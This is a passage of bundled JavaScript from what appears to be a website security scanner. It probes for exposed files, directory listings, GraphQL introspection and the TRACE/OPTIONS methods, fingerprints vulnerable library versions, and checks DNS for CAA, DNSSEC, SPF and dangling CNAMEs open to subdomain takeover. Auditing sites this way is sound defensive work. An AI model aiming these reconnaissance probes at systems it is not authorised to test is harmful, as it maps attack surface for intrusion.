const disallowed = depth === "full" ? await disallowedPaths(context) : [];
const all = exposurePlan(context.target, depth, crawl.state === "available" ? crawl.value : null, disallowed);
const plan = context.place === undefined ? all : planOf(all, context.place);
const requests = new ExposureRequests(context, EXPOSURE_REQUESTS[depth], SIBLINGS_MAX[depth]);
const probes = [];
const planned = new Set(plan.map(gather_exposure_keyOf));
const isAllowed = ({path: path}) => !("refusal" in requestUrl(path, context.target, context.options));
const waiting = plan.filter(isAllowed);
const unsent = [];
const leftOut = plan.filter(entry => !isAllowed(entry)).map(({family: family}) => family);
let followed = 0;
const work = async () => {
while (waiting.length > 0 && requests.room > 0 && !context.signal.aborted) {
const sent = await requests.send(waiting.splice(0, Math.min(gather_exposure_CONCURRENCY, requests.room)));
probes.push(...sent.filter(probe => !isUnsent(probe)));
unsent.push(...sent.filter(isUnsent));
const next = followUps(sent).filter(entry => !planned.has(gather_exposure_keyOf(entry)) && isAllowed(entry)).slice(0, FOLLOWED_MAX - followed);
followed += next.length;
for (const entry of next) planned.add(gather_exposure_keyOf(entry));
waiting.unshift(...next);
}
};
await work();
if (waiting.length > 0) {
requests.add(await context.spareRequests() - SPARED);
await work();
}
const left = [ ...new Map(waiting.map(entry => [ gather_exposure_keyOf(entry), entry.family ])).values() ];
const skipped = [ ...left, ...unsent.map(({family: family}) => family) ];
return {
state: "available",
value: {
probes: probes,
skipped: skipped,
unsent: unsent.length,
requestsMax: requests.maximum,
leftOut: leftOut
}
};
};
function isUnsent({attempt: attempt, sibling: sibling}) {
return [ attempt, sibling ].some(one => one !== null && !(0, http.m_)(one) && one.failure.code === "budget");
}
function planOf(plan, place) {
const paths = (0, core_place.Wn)(place).map(url => url.slice(new URL(url).origin.length));
return [ ...plan, ...linkedFiles(paths) ].filter(({path: path}) => paths.includes(path));
}
function gather_exposure_keyOf({path: path, method: method}) {
return `${method ?? "GET"} ${path}`;
}
function followUps(probes) {
const seen = family => (0, proven.BE)(probes, family).flatMap(({probe: {path: path, attempt: attempt}}) => (0, 
http.m_)(attempt) ? {
path: path,
response: attempt.response
} : []);
const listed = seen("directory-listing").flatMap(({path: path, response: response}) => listedPaths(response.text, path));
const copies = seen("metadata").filter(({path: path}) => path.endsWith("/package.json")).flatMap(({path: path, response: response}) => programCopies(response, path.slice(0, path.lastIndexOf("/") + 1)));
return [ ...linkedFiles(listed), ...copies ];
}
const SPARED = 8;
class ExposureRequests {
#context;
#token;
#siblings=new Map;
#siblingsMax;
#maximum;
#left;
constructor(context, requests, siblingsMax) {
this.#context = context;
this.#maximum = requests;
this.#left = requests;
this.#siblingsMax = siblingsMax;
this.#token = context.token(12);
}
get maximum() {
return this.#maximum;
}
get room() {
return Math.max(0, this.#left - 1);
}
add(requests) {
const added = Math.max(0, requests);
this.#maximum += added;
this.#left += added;
}
async send(entries) {
const chosen = entries.slice(0, this.room);
const attempts = await Promise.all(chosen.map(entry => this.#request(entry, entry.path)));
const siblings = chosen.map((entry, index) => {
const attempt = attempts[index];
return (0, proven.H0)(attempt, entry.signature, entry.path) === null ? null : this.#sibling(entry);
});
const responses = await Promise.all(siblings);
return chosen.map(({family: family, path: path, signature: signature, isPublicDownload: isPublicDownload}, index) => ({
family: family,
path: path,
signature: signature,
...isPublicDownload === true ? {
isPublicDownload: isPublicDownload
} : {},
attempt: attempts[index],
sibling: responses[index] ?? null
}));
}
#sibling(entry) {
const path = siblingPath(entry.path, this.#token);
const key = `${entry.method ?? "GET"} ${path}`;
const known = this.#siblings.get(key);
if (known !== undefined) return known;
if (this.#siblings.size >= this.#siblingsMax) return this.#likeliestSibling(key);
if (this.#left < 1) return this.#likeliestSibling(key, endingOf(path));
const sent = this.#request(entry, path);
this.#siblings.set(key, sent);
return sent;
}
#likeliestSibling(key, ending = "") {
const common = other => {
let length = 0;
while (length < key.length && key.at(-1 - length) === other.at(-1 - length)) length += 1;
return length;
};
const known = [ ...this.#siblings ].filter(([other]) => other.endsWith(ending)).sort(([one], [other]) => common(other) - common(one));
return known[0]?.[1] ?? null;
}
#isAnonymous({family: family}) {
return family === "open-product" && Object.keys(this.#context.options.request_headers ?? {}).length > 0;
}
#request(entry, path) {
this.#left -= 1;
const request = {
url: this.#context.target.origin + path,
maxBytes: BINARY.has(entry.signature) ? BYTES_BINARY : BYTES_TEXT,
...this.#isAnonymous(entry) ? {
isAnonymous: true
} : {}
};
if (entry.method !== "POST") return this.#context.fetch(request);
const headers = [ [ "Content-Type", "application/json" ] ];
return this.#context.fetch({
...request,
method: "POST",
headers: headers,
body: GRAPHQL_INTROSPECTION
});
}
}
function endingOf(path) {
return /\/$|\.\w+~?$/.exec(path)?.[0] ?? "";
}
async function disallowedPaths(context) {
const robots = await context.fetch({
url: "/robots.txt"
});
return (0, http.m_)(robots) && robots.response.status === 200 ? [ ...parseRobots(robots.response.text).paths ] : [];
}
const REDIRECTS_MAX = 5;
const gatherLanding = async context => {
const {chain: chain, leavesTo: leavesTo, failed: failed} = await followRedirects(context);
const final = chain.at(-1);
if (final === undefined) {
const {code: code = "protocol", message: message = "no response"} = failed?.failure ?? {};
return {
state: "failed",
code: code,
reason: message
};
}
const leftOut = failed?.failure.code === "blocked" ? {
leftOut: new URL(failed.request.url).pathname
} : {};
const isFetchedAgain = context.scanType !== "quick" && (0, csp_policies.dw)(final) !== null;
const again = isFetchedAgain ? await fetchAgain(context.fetch, final) : null;
return {
state: "available",
value: {
chain: chain,
final: final,
leavesTo: leavesTo,
again: again,
...leftOut
}
};
};
async function followRedirects({target: target, fetch: fetch}) {
const chain = [];
let url = target.startUrl;
for (;;) {
const attempt = await fetch({
url: url
});
if (!(0, http.m_)(attempt)) return {
chain: chain,
leavesTo: null,
failed: attempt
};
chain.push(attempt);
const next = (0, redirect.E)(attempt);
if (next !== null && next.origin !== target.origin) return {
chain: chain,
leavesTo: next.href,
failed: null
};
const isEnd = next === null || chain.some(({request: request}) => request.url === next.href);
if (isEnd || chain.length > REDIRECTS_MAX) return {
chain: chain,
leavesTo: null,
failed: null
};
url = next.href;
}
}
async function fetchAgain(fetch, {request: request}) {
const attempt = await fetch({
url: request.url,
fresh: true
});
return (0, http.m_)(attempt) ? attempt : null;
}
const gather_methods_INTERFACES_MAX = 5;
const gather_methods_PAGES_MAX = 3;
const gatherMethods = async context => {
const landing = await context.gather("landing");
if (landing.state !== "available") return landing;
const {url: url} = landing.value.final.request;
const traceMarker = context.token(16);
const [options, trace] = await Promise.all([ context.fetch({
method: "OPTIONS",
url: url,
maxBytes: 4096
}), context.fetch({
method: "TRACE",
url: url,
headers: [ [ "X-Scan-Gate", traceMarker ] ],
maxBytes: 65536
}) ]);
const inner = await Promise.all((await innerUrls(context, url)).map(innerUrl => context.fetch({
method: "OPTIONS",
url: innerUrl,
maxBytes: 4096
})));
return {
state: "available",
value: {
options: options,
trace: trace,
traceMarker: traceMarker,
inner: inner
}
};
};
async function innerUrls(context, landingUrl) {
const crawl = await context.gather("crawl");
if (crawl.state !== "available") return [];
const chosen = (await siteInterfaces(context, landingUrl)).slice(0, gather_methods_INTERFACES_MAX);
const partOf = url => new URL(url).pathname.split("/")[1] ?? "";
const parts = new Set([ landingUrl, ...chosen ].map(partOf));
for (const {url: url, exchange: exchange} of crawl.value.pages) {
if (chosen.length >= gather_methods_INTERFACES_MAX + gather_methods_PAGES_MAX) break;
if (/\.\w{1,6}$/.test(new URL(url).pathname) || parts.has(partOf(url)) || exchange.response.status >= 400) continue;
parts.add(partOf(url));
chosen.push(url);
}
return chosen;
}
const gatherPlainHttp = async context => {
const {target: target} = context;
if (target.scheme === "http") {
const landing = await context.gather("landing");
if (landing.state !== "available") return landing;
return {
state: "available",
value: {
attempts: landing.value.chain
}
};
}
const start = new URL(target.startUrl);
const port = target.port === 443 ? 80 : target.port;
const attempts = [ await context.fetch({
url: `http://${(0, target_address.V8)(target.host, port)}${start.pathname}${start.search}`,
maxBytes: 65536
}) ];
return {
state: "available",
value: {
attempts: attempts
}
};
};
var library_in_url = __webpack_require__(61877);
const software_banners_SERVERS_MAX = 1e3;
const software_banners_HEADERS = [ "Server", "X-Powered-By", "X-AspNet-Version", "X-AspNetMvc-Version", "X-Generator", "X-Runtime-Version" ];
const FIXED = {
"X-AspNet-Version": "asp.net",
"X-AspNetMvc-Version": "asp.net-mvc"
};
function serversIn(exchanges) {
const found = new Map;
for (const {request: request, response: response} of exchanges) for (const {header: header, product: name, version: version} of softwareBanners(response.headers)) {
const key = `${header} ${name} ${version} ${request.url}`;
if (!found.has(key) && found.size < software_banners_SERVERS_MAX) found.set(key, {
name: name,
version: version,
url: request.url,
method: request.method,
header: header
});
}
return [ ...found.values() ];
}
function softwareBanners(headers) {
return software_banners_HEADERS.flatMap(name => (0, http.UE)(headers, name).flatMap(value => {
const text = value.slice(0, 500);
const fixed = FIXED[name];
if (fixed !== undefined) {
const version = /^\d[\w.-]{0,40}/.exec(text)?.[0];
return version === undefined ? [] : [ {
header: name,
product: fixed,
version: version
} ];
}
return [ ...text.matchAll(/([A-Za-z][\w.+-]{1,40}?)[/ (](?:v)?(\d+(?:\.\d+){0,4}[\w.-]{0,20})/g) ].map(match => ({
header: name,
product: (match[1] ?? "").toLowerCase(),
version: match[2] ?? ""
}));
}));
}
var library_fingerprints = __webpack_require__(68809);
const LOOKUPS_MAX = 2e4;
const COPY_REACH = 200;
function variableVersion(text, name, index, wanted) {
for (const valueAt of [ stringAt, copyAt ]) for (const direction of [ -1, 1 ]) {
const value = search(text, name, index, wanted, direction, valueAt);
if (value !== null) return value;
}
return null;
}
function search(text, name, index, wanted, direction, valueAt) {
const found = [ `${name}=`, `${name} =` ].flatMap(needle => {
for (const at of variable_version_placesOf(text, needle, index, direction)) {
const value = valueAt(text, at, name, wanted);
if (value !== null) return {
value: value,
distance: Math.abs(at - index)
};
}
return [];
});
return found.sort((one, other) => one.distance - other.distance)[0]?.value ?? null;
}
function* variable_version_placesOf(text, needle, index, direction) {
const next = from => {
if (direction === 1) return text.indexOf(needle, from);
return from < 0 ? -1 : text.lastIndexOf(needle, from);
};
let at = next(index);
for (let tries = 0; at !== -1 && tries < LOOKUPS_MAX; tries += 1) {
yield at;
at = next(at + direction);
}
}
function stringAt(text, at, name, wanted) {
const first = text[at + name.length + 1] ?? "";
if (first !== '"' && first !== "'" && first !== "`" && first !== " " && first !== "=") return null;
if (/[\w$.]/.test(text[at - 1] ?? " ")) return null;
const match = /^\s*=\s*(["'`])([^"'`\n]{1,400})\1/.exec(text.slice(at + name.length, at + name.length + 420));
const value = match?.[2];
return value !== undefined && wanted.test(value) ? value : null;
}
function copyAt(text, at, name, wanted) {
if (/[\w$.]/.test(text[at - 1] ?? " ")) return null;
const copied = /^\s*=\s*([A-Za-z_$][\w$]{0,60})(\.version)?\s*[,;)}\n]/.exec(text.slice(at + name.length, at + name.length + 90));
const source = copied?.[1];
if (source === undefined) return null;
const before = text.slice(Math.max(0, at - COPY_REACH), at);
const from = Math.max(before.lastIndexOf(`${source}=`), before.lastIndexOf(`${source} =`));
if (from === -1) return null;
if (copied?.[2] === undefined) return stringAt(before, from, source, wanted);
const value = /^\s*=\s*\{\s*["'`]?version["'`]?\s*:\s*["'`]([^"'`\n]{1,100})["'`]\s*(?:,\s*)?\}/.exec(before.slice(from + source.length))?.[1];
return value !== undefined && wanted.test(value) ? value : null;
}
const detect_libraries_PLACES_MAX = 60;
const detect_libraries_VERSION = String.raw`\d{1,3}\.\d{1,5}(?:\.\d{1,5})?(?:[-.]?(?:alpha|beta|rc|pre|dev|next|canary)[\w.-]{0,30})?`;
const STARTS_AS_VERSION = new RegExp(`^${detect_libraries_VERSION}`);
const BANNER_VERSION = new RegExp(`^\\s*v?(?<v>${detect_libraries_VERSION})(?![\\d.]*\\w)(?!\\s+<?\\S{1,80}/LICENSE)`);
let compiled = null;
function compile() {
compiled ??= library_fingerprints._.map(library => ({
library: library,
signatures: (library.code ?? []).map(signature => ({
...signature,
regex: new RegExp(signature.pattern.replaceAll("%V", `["'\`](?<v>${detect_libraries_VERSION})[^"'\`\\n]{0,400}["'\`]`).replaceAll("%I", `(?:["'\`](?<v>${detect_libraries_VERSION})[^"'\`\\n]{0,400}["'\`]|(?<id>[A-Za-z_$][\\w$]{0,60}))`).replaceAll("%N", "[\\w$]{1,60}").replaceAll("\\s*", "\\s{0,20}"))
}))
}));
return compiled;
}
function* detectLibraries(text) {
const seen = new Set;
for (const one of compile()) {
const {name: name} = one.library;
const {versions: versions, how: how} = versionsIn(text, one);
for (const version of versions) {
const key = `${name}@${version}`;
if (seen.has(key)) continue;
seen.add(key);
yield {
name: name,
version: version,
how: how
};
}
yield null;
}
}
function versionsIn(text, {library: library, signatures: signatures}) {
const byCode = new Set;
for (const signature of signatures) {
const read = new Set(codeVersions(text, signature));
if (signature.isAlone !== true || read.size === 1) for (const version of read) byCode.add(version);
}
const byBanner = byCode.size <= 1 ? new Set(bannerVersions(text, library.banners ?? [])) : new Set;
if (byBanner.size > 0) return {
versions: byBanner,
how: "banner"
};
for (const version of library.carried ?? []) byCode.delete(version);
return {
versions: byCode,
how: "code"
};
}
function* codeVersions(text, signature) {
const {near: near, before: before = 0, after: after = 160, requires: requires = [], regex: regex} = signature;
let places = 0;
let at = text.indexOf(near);
if (at === -1 || !requires.every(literal => text.includes(literal))) return;
for (;at !== -1 && places < detect_libraries_PLACES_MAX; at = text.indexOf(near, at + near.length)) {
places += 1;
const from = Math.max(0, at - before);
const window = text.slice(from, after === 0 ? at : at + near.length + after);
const match = regex.exec(window);
if (match === null) continue;
const version = versionOf(text, from + match.index, match.groups ?? {});
if (version !== null) yield version;
}
}
function versionOf(text, index, groups) {
const {v: v, id: id, id2: id2, major: major, minor: minor, patch: patch, rev: rev, revId: revId} = groups;
if (v !== undefined) return cleanVersion(v);
if (major !== undefined && minor !== undefined) return `${major}.${minor}.${patch ?? "0"}`;
const revision = rev ?? (revId === undefined ? undefined : variableVersion(text, revId, index, /^\d{2,3}$/));
if (revision != null) return `0.${revision}`;
const name = id ?? id2;
const version = name === undefined ? null : variableVersion(text, name, index, STARTS_AS_VERSION);
return version === null ? null : cleanVersion(version);
}
function cleanVersion(text) {
const version = STARTS_AS_VERSION.exec(text)?.[0];
return version === undefined ? null : version.replace(/-next-[0-9a-f]{6}.*/s, "").replace(/[-.]$/, "");
}
function* bannerVersions(text, banners) {
for (const banner of banners) {
let places = 0;
for (let at = text.indexOf(banner); at !== -1 && places < detect_libraries_PLACES_MAX; at = text.indexOf(banner, at + banner.length)) {
places += 1;
const match = BANNER_VERSION.exec(text.slice(at + banner.length, at + banner.length + 120));
if (match?.groups?.["v"] !== undefined && opensComment(text, at)) {
yield match.groups["v"];
return;
}
}
}
}
const HEADING = /^[\s*!@\-/#=+.:"'([]*(?:@?\b(?:licen[cs]e|preserve|overview|name|module|file|project|package|title|copyright|plugin|library|bundle|build|browser|of|the)\b[\s:*!-]*){0,4}$/i;
function opensComment(text, at) {
const before = text.slice(Math.max(0, at - 200), at);
const line = before.slice(before.lastIndexOf("\n") + 1);
const open = Math.max(before.lastIndexOf("/*"), before.lastIndexOf("//!"));
const isBlock = open !== -1 && !before.slice(open).includes("*/");
if (isBlock) return HEADING.test(before.slice(Math.max(open, before.length - line.length)));
return (/^\s*\/\//.test(line) || text.startsWith("//", at)) && HEADING.test(line);
}
var vulnerable_members = __webpack_require__(666);
const LIBRARIES_MAX = 200;
const INLINE_LENGTH_MIN = 200;
const TURN_MS = 20;
async function gatherLibraries(context) {
const crawl = await context.gather("surface");
if (crawl.state !== "available") return crawl;
const {pages: pages, resources: resources} = crawl.value;
const found = new Map;
const add = library => {
const key = `${library.name} ${library.version} ${library.url}`;
if (!found.has(key) && found.size < LIBRARIES_MAX) found.set(key, library);
};
const named = new Set;
const read = new Set(resources.map(({request: request}) => request.url));
for (const resource of resources) {
const {text: text} = resource.response;
const inside = await detect(text, context.signal);
const evaluated = evaluatedModules(text);
if (evaluated !== null) inside.push(...await detect(evaluated, context.signal));
for (const library of inside) {
add(asDetected(library, resource.request.url, ""));
named.add(`${resource.request.url} ${library.name}`);
}
}
const isRead = url => read.has(url);
const isUnread = url => new URL(url).origin === context.target.origin && !isRead(url);
for (const {exchange: exchange} of pages) await addFromPage(exchange, named, isRead, isUnread, add, context.signal);
const scripts = ownScripts(pages.map(({exchange: exchange}) => exchange), resources, context.target.origin);
const libraries = [ ...found.values() ].map(library => withCalls(library, scripts)).sort((a, b) => (0, 
shared_compare.n)(`${a.name} ${a.version} ${a.url}`, `${b.name} ${b.version} ${b.url}`));
const landing = await context.gather("landing");
const chain = landing.state === "available" ? landing.value.chain : [];
const servers = serversIn([ ...chain, ...pages.map(({exchange: exchange}) => exchange) ]);
return {
state: "available",
value: {
libraries: libraries,
servers: servers
}
};
}
async function addFromPage(page, named, isRead, isUnread, add, signal) {
const scripts = (0, html_document.lM)(page)?.scripts ?? [];
for (const {text: text} of scripts.filter(({url: url}) => url === null)) {
if (text.length < INLINE_LENGTH_MIN || named.has(text)) continue;
named.add(text);
for (const library of await detect(text, signal)) add(asDetected(library, page.request.url, " in an inline script"));
}
for (const url of scripts.flatMap(script => script.url ?? [])) {
const library = (0, library_in_url.uE)(url);
if (library !== null && !isUnread(url) && !named.has(`${url} ${library.name}`)) add({
...library,
url: url,
how: isRead(url) ? "its URL" : "its URL (not loaded)"
});
}
}
function asDetected({name: name, version: version, how: how}, url, where) {
const bundle = where === "" ? (0, library_in_url.hz)(name, url) : null;
return {
name: name,
version: version,
url: url,
how: `its ${how}${where}`,
...bundle === null ? {} : {
bundle: bundle
}
};
}
function ownScripts(pages, resources, origin) {
const files = resources.filter(({request: request}) => new URL(request.url).origin === origin).map(({request: request, response: response}) => ({
url: request.url,
text: response.text
}));
const inline = pages.flatMap(page => ((0, html_document.lM)(page)?.scripts ?? []).flatMap(({url: url, text: text}) => url === null ? {
url: url,
text: text
} : []));
return [ ...files.filter(({url: url}) => (0, library_in_url.hz)("", url) === null), ...inline ];
}
function withCalls(library, scripts) {
if (library.bundle !== undefined) return library;
const members = (0, vulnerable_members.Zv)(library.name, library.version);
const calls = members.filter(member => scripts.some(({url: url, text: text}) => (url === null || !(0, 
library_in_url.uT)(library.name, url)) && (0, vulnerable_members.Ss)(text, member)));
return calls.length === 0 ? library : {
...library,
calls: calls
};
}
async function detect(text, signal) {
const found = [];
let turnEnds = performance.now() + TURN_MS;
for (const library of detectLibraries(text)) {
if (library !== null) found.push(library);
if (performance.now() < turnEnds) continue;
await (0, external_node_timers_promises_.setImmediate)();
if (signal.aborted) break;
turnEnds = performance.now() + TURN_MS;
}
return found;
}
const START = 'eval("';
const MODULES_MAX = 5e3;
function evaluatedModules(script) {
if (!script.includes("sourceURL=webpack")) return null;
const modules = [];
let at = script.indexOf(START);
while (at !== -1 && modules.length < MODULES_MAX) {
const end = gather_libraries_endOfString(script, at + START.length);
modules.push((0, unescape_literal.C)(script.slice(at + START.length, end)));
at = script.indexOf(START, end);
}
return modules.length === 0 ? null : modules.join("\n");
}
function gather_libraries_endOfString(script, from) {
let index = from;
while (index < script.length && script[index] !== '"') index += script[index] === "\\" ? 2 : 1;
return Math.min(index, script.length);
}
const takeover_providers_namespaceObject = JSON.parse('{"r5":[{"provider":"GitHub Pages","suffixes":["github.io"],"nxdomain":false,"page":"There isn\'t a GitHub Pages site here"},{"provider":"Heroku","suffixes":["herokuapp.com","herokudns.com","herokussl.com"],"nxdomain":true,"page":"No such app|herokucdn\\\\.com\\\\/error-pages\\\\/no-such-app"},{"provider":"Amazon S3","suffixes":["amazonaws.com"],"nxdomain":false,"page":"<Code>NoSuchBucket<\\\\/Code>|The specified bucket does not exist"},{"provider":"AWS Elastic Beanstalk","suffixes":["elasticbeanstalk.com"],"nxdomain":true,"page":null},{"provider":"Microsoft Azure","suffixes":["azurewebsites.net","cloudapp.net","cloudapp.azure.com","trafficmanager.net","azureedge.net","azure-api.net","azurecontainer.io","blob.core.windows.net","azurestaticapps.net"],"nxdomain":true,"page":null},{"provider":"Shopify","suffixes":["myshopify.com"],"nxdomain":false,"page":"Sorry, this shop is currently unavailable"},{"provider":"Fastly","suffixes":["fastly.net"],"nxdomain":false,"page":"Fastly error: unknown domain"},{"provider":"Surge","suffixes":["surge.sh"],"nxdomain":false,"page":"project not found"},{"provider":"Bitbucket","suffixes":["bitbucket.io"],"nxdomain":false,"page":"Repository not found"},{"provider":"Ghost","suffixes":["ghost.io"],"nxdomain":false,"page":"Site unavailable|The thing you were looking for is no longer here"},{"provider":"Pantheon","suffixes":["pantheonsite.io"],"nxdomain":false,"page":"404 error unknown site"},{"provider":"Read the Docs","suffixes":["readthedocs.io"],"nxdomain":false,"page":"unknown to Read the Docs"},{"provider":"Tumblr","suffixes":["domains.tumblr.com"],"nxdomain":false,"page":"There\'s nothing here|Whatever you were looking for doesn\'t currently exist"},{"provider":"WordPress.com","suffixes":["wordpress.com"],"nxdomain":false,"page":"Do you want to register"},{"provider":"Webflow","suffixes":["proxy.webflow.com","proxy-ssl.webflow.com"],"nxdomain":false,"page":"The page you are looking for doesn\'t exist or has been moved"},{"provider":"Help Scout","suffixes":["helpscoutdocs.com"],"nxdomain":false,"page":"No settings were found for this company"},{"provider":"Agile CRM","suffixes":["agilecrm.com"],"nxdomain":false,"page":"Sorry, this page is no longer available"},{"provider":"Fly.io","suffixes":["fly.dev"],"nxdomain":true,"page":null}]}');
var external_node_dgram_ = __webpack_require__(41314);
const RECORD_TYPES = {
SOA: 6,
DS: 43,
RRSIG: 46
};
function dnsQuery(id, name, type) {
const labels = name.split(".").filter(label => label !== "");
const question = Buffer.concat([ ...labels.map(label => Buffer.concat([ Buffer.from([ label.length ]), Buffer.from(label, "latin1") ])), Buffer.from([ 0, type >> 8, type & 255, 0, 1 ]) ]);
const header = Buffer.from([ id >> 8, id & 255, 1, 32, 0, 1, 0, 0, 0, 0, 0, 1 ]);
const opt = Buffer.from([ 0, 0, 41, 4, 208, 0, 0, 128, 0, 0, 0 ]);
return Buffer.concat([ header, question, opt ]);
}
function parseDnsResponse(data, query) {
if (data.length < 12 || data.readUInt16BE(0) !== query.readUInt16BE(0) || (data.readUInt8(2) & 128) === 0) return null;
const questionEnd = query.indexOf(0, 12) + 5;
if (data.readUInt16BE(4) !== 1 || data.length < questionEnd) return null;
const isSame = data.toString("latin1", 12, questionEnd).toLowerCase() === query.toString("latin1", 12, questionEnd).toLowerCase();
if (!isSame) return null;
const sections = [];
let at = questionEnd;
for (const offset of [ 6, 8 ]) {
const types = [];
for (let left = data.readUInt16BE(offset); left > 0 && at !== null; left -= 1) {
const start = skipName(data, at);
if (start === null || start + 10 > data.length) {
at = null;
break;
}
types.push(data.readUInt16BE(start));
at = start + 10 + data.readUInt16BE(start + 8);
}
sections.push(types);
}
return {
isAuthenticated: (data.readUInt8(3) & 32) !== 0,
responseCode: data.readUInt8(3) & 15,
responseTypes: sections[0] ?? []
};
}
function skipName(data, from) {
let at = from;
while (at < data.length) {
const length = data.readUInt8(at);
if (length === 0) return at + 1;
if (length >= 192) return at + 2;
at += length + 1;
}
return null;
}
const TIMEOUT_MS = 1200;
const TRIES = 2;
const NO_ERROR = 0;
async function queryDnssec(server, zone, signal) {
const soa = await query(server, zone, RECORD_TYPES.SOA, signal);
if (soa === null) return {
signed: null,
detail: "the DNS server did not respond to a query with DO"
};
if (soa.responseCode !== NO_ERROR) return {
signed: null,
detail: `the DNS server responded with code ${soa.responseCode}`
};
if (soa.isAuthenticated) return {
signed: true,
detail: "the resolver validated the zone (AD)"
};
const ds = await query(server, zone, RECORD_TYPES.DS, signal);
const hasDs = ds?.responseTypes.includes(RECORD_TYPES.DS) === true;
const hasSignature = soa.responseTypes.includes(RECORD_TYPES.RRSIG);
if (hasDs) return {
signed: true,
detail: "the parent zone has a DS record"
};
if (ds === null) return {
signed: null,
detail: "the DNS server did not respond to the query for DS"
};
return {
signed: false,
detail: hasSignature ? "the zone is signed, but its parent has no DS record" : "the SOA record came without a signature, and the parent has no DS record"
};
}
async function query(server, name, type, signal) {
for (let attempt = 0; attempt < TRIES && !signal.aborted; attempt += 1) {
const response = await sendQuery(server, dnsQuery((0, external_node_crypto_.randomInt)(65536), name, type), signal);
if (response !== null) return response;
}
return null;
}
function sendQuery(server, message, signal) {
const {address: address, port: port} = splitServer(server);
return new Promise(resolve => {
const socket = (0, external_node_dgram_.createSocket)((0, external_node_net_.isIP)(address) === 6 ? "udp6" : "udp4");
const finish = response => {
clearTimeout(timer);
signal.removeEventListener("abort", onAbort);
socket.close();
resolve(response);
};
const onAbort = () => finish(null);
const timer = setTimeout(onAbort, TIMEOUT_MS);
signal.addEventListener("abort", onAbort, {
once: true
});
socket.once("error", onAbort);
socket.on("message", (data, from) => {
const response = from.port === port ? parseDnsResponse(data, message) : null;
if (response !== null) finish(response);
});
socket.connect(port, address, () => socket.send(message));
});
}
function splitServer(server) {
const bracketed = /^\[([^\]]+)\](?::(\d+))?$/.exec(server);
if (bracketed !== null) return {
address: bracketed[1] ?? "",
port: Number(bracketed[2] ?? 53)
};
const [address = "", port] = (0, external_node_net_.isIP)(server) === 6 ? [ server ] : server.split(":");
return {
address: address,
port: Number(port ?? 53)
};
}
const TAKEOVER_PROVIDERS = takeover_providers_namespaceObject.r5.map(row => ({
...row,
page: row.page === null ? null : new RegExp(row.page)
}));
function takeoverProviderOf(name) {
return TAKEOVER_PROVIDERS.find(({suffixes: suffixes}) => suffixes.some(suffix => name.endsWith(`.${suffix}`))) ?? null;
}
const ABSENT = new Set([ "ENODATA", "ENOTFOUND" ]);
function isAbsent(error) {
return error instanceof Error && ABSENT.has(error.code ?? "");
}
const CNAME_HOPS_MAX = 8;
const CAA_LEVELS_MAX = 8;
const gather_dns_RECORDS_MAX = 50;
async function gatherDns(context) {
const {target: target, resolver: resolver, signal: signal} = context;
const {host: host, registrableDomain: registrableDomain} = target;
if (target.isIpAddress) return {
state: "not_applicable",
reason: "the target is an IP address"
};
if (target.isLocal || registrableDomain === null) return {
state: "not_applicable",
reason: "the name is local and has no public DNS records"
};
const server = resolver.getServers()[0];
const [caa, dnssec, cnames] = await Promise.all([ findCaa(resolver, host), server === undefined ? {
signed: null,
detail: "no DNS server is configured"
} : queryDnssec(server, registrableDomain, signal), followCnames(resolver, host) ]);
const dangling = await findDangling(context, cnames);
return {
state: "available",
value: {
name: host,
registrableDomain: registrableDomain,
caa: caa.records,
caaError: caa.error,
dnssec: dnssec,
cnames: cnames,
dangling: dangling
}
};
}
async function findCaa(resolver, host) {
const labels = host.split(".");
for (let level = 0; level < Math.min(labels.length, CAA_LEVELS_MAX); level += 1) {
const name = labels.slice(level).join(".");
try {
const records = (await resolver.resolveCaa(name)).slice(0, gather_dns_RECORDS_MAX).flatMap(record => caaRecord(name, record));
if (records.length > 0) return {
records: records,
error: null
};
} catch (error) {
if (!isAbsent(error)) return {
records: [],
error: `the CAA records of ${name} could not be queried`
};
}
}
return {
records: [],
error: null
};
}
function caaRecord(name, record) {
return Object.entries(record).filter(([tag, value]) => tag !== "critical" && tag !== "type" && typeof value === "string").map(([tag, value]) => ({
name: name,
tag: tag.slice(0, 40),
value: String(value).slice(0, 300)
}));
}
async function followCnames(resolver, host) {
const chain = [];
let name = host;
while (chain.length < CNAME_HOPS_MAX) {
const next = await resolver.resolveCname(name).then(([first]) => first?.toLowerCase().replace(/\.$/, ""), () => undefined);
if (next === undefined || next === host || chain.includes(next)) break;
chain.push(next);
name = next;
}
return chain;
}
async function findDangling(context, cnames) {
for (const name of cnames) {
const known = takeoverProviderOf(name);
if (known === null) continue;
if (known.nxdomain && await isUnregistered(context.resolver, name)) return {
name: name,
provider: known.provider,
proof: `${name} does not exist (NXDOMAIN)`
};
if (known.page === null) continue;
const landing = await context.gather("landing");
if (landing.state !== "available" || !(0, http.m_)(landing.value.final)) continue;
const said = known.page.exec(landing.value.final.response.text.slice(0, 65536))?.[0];
if (said !== undefined) return {
name: name,
provider: known.provider,
proof: `the page contains: ${said}`
};
}
return null;
}
async function isUnregistered(resolver, name) {
const codes = await Promise.all([ resolver.resolve4(name), resolver.resolve6(name) ].map(response => response.then(() => null, error => error instanceof Error ? error.code : null)));
return codes.every(code => code === "ENOTFOUND");
}
var cjs = __webpack_require__(20935);
var dmarc_record = __webpack_require__(57509);
var mail_records = __webpack_require__(45740);
const MECHANISMS = new Set([ "all", "include", "a", "mx", "ptr", "ip4", "ip6", "exists" ]);
const WITH_VALUE = new Set([ "include", "exists", "ip4", "ip6" ]);
const LOOKUPS = new Set([ "include", "a", "mx", "ptr", "exists" ]);
function isSpf(record) {
return /^v=spf1( |$)/i.test(record);
}
function parseSpf(record) {
const terms = [];
for (const word of record.trim().split(/ +/).slice(1)) {
const term = modifierOf(word) ?? mechanismOf(word);
if ("error" in term) return term;
terms.push(term);
}
return {
terms: terms
};
}
function modifierOf(word) {
const [, name, value = ""] = /^([a-z][\w.-]*)=(.*)$/i.exec(word) ?? [];
return name === undefined ? null : {
kind: "modifier",
qualifier: "+",
name: name.toLowerCase(),
value: value
};
}
function mechanismOf(word) {
const [, qualifier, written = "", separator, rest = ""] = /^([+\-~?]?)([a-z][a-z0-9]*)(?:([:/])(.*))?$/i.exec(word) ?? [];
const name = written.toLowerCase();
if (!MECHANISMS.has(name)) return {
error: `unknown term "${word.slice(0, 60)}"`
};
const value = separator === ":" ? rest : "";
if (WITH_VALUE.has(name) && value === "") return {
error: `"${word.slice(0, 60)}" lacks its value`
};
return {
kind: "mechanism",
qualifier: qualifier || "+",
name: name,
value: value
};
}
function effectiveTerms(terms) {
const mechanisms = terms.filter(({kind: kind}) => kind === "mechanism");
const all = mechanisms.findIndex(({name: name}) => name === "all");
if (all >= 0) return mechanisms.slice(0, all + 1);
